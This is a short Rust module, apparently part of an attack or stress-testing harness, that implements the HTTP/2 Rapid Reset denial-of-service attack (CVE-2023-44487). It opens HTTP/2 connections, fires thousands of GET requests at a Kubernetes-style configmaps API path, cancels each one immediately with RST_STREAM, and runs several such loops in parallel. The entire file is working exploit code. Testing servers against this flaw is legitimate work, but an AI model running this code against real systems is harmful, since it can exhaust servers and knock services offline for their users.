//! Requests that are taken back as soon as they are made (CVE-2023-44487).

use std::time::{Duration, Instant};

use anyhow::Result;
use futures::future::join_all;

use crate::peers::{Http2, kind};
use crate::stage::{Limits, Stage};
use crate::{Attack, Budget};

/// The attack.
pub static ATTACK: Attack = Attack {
    name: "rapid-resets",
    about: "requests that are taken back as soon as they are made, thousands over a connection",
    budget: Budget::USUAL,
    limits: Limits::NONE,
    play: |stage| Box::pin(play(stage)),
};

async fn play(stage: &Stage) -> Result<()> {
    let until = Instant::now() + Duration::from_secs(stage.pick(2, 30));
    let reset = async |_| {
        while Instant::now() < until {
            let Ok(mut peer) = Http2::open(stage, &[]).await else { continue };
            for stream in (1..20_000).step_by(2) {
                let asked = peer.get(stream, "/api/v1/namespaces/tenant/configmaps").await;
                let taken_back = peer.send(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes()).await;
                if asked.and(taken_back).is_err() || Instant::now() > until {
                    break;
                }
            }
        }
    };
    join_all((0..stage.pick(4, 16)).map(reset)).await;
    Ok(())
}
